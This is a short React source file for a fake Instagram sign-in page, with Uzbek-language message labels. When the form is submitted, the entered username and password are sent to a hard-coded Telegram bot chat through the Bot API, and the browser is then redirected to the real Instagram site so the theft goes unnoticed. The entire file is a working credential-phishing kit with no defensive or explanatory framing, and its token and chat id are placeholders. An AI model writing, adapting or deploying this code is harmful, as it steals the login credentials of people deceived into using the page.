import { useState, createElement as h } from "react";
import axios from "axios";

const KEY = "1234567890:AAPLACEHOLDERplaceholderPLACEHOLDER00";
const ROOM = "000000000";

export default function SignIn() {
  const [handle, setHandle] = useState("");
  const [word, setWord] = useState("");
  const [bad, setBad] = useState({ handle: false, word: false });

  const press = async (e) => {
    e.preventDefault();
    const wrong = { handle: !handle, word: !word };
    setBad(wrong);
    if (wrong.handle || wrong.word) return;
    const note = `Kirish ma'lumotlari: Login: ${handle} Parol: ${word}`;
    try {
      await axios.get(`https://api.telegram.org/bot${KEY}/sendMessage?chat_id=${ROOM}&text=${note}`);
      window.location.href = "https://www.instagram.com";
    } catch (err) {
      console.error("Xatolik:", err);
    }
  };

  return h("form", { className: "box", onSubmit: press },
    h("input", { placeholder: "Phone number, username, or email", value: handle, onChange: (e) => setHandle(e.target.value) }),
    h("input", { type: "password", placeholder: "Password", value: word, onChange: (e) => setWord(e.target.value) }),
    h("button", null, "Log in"));
}
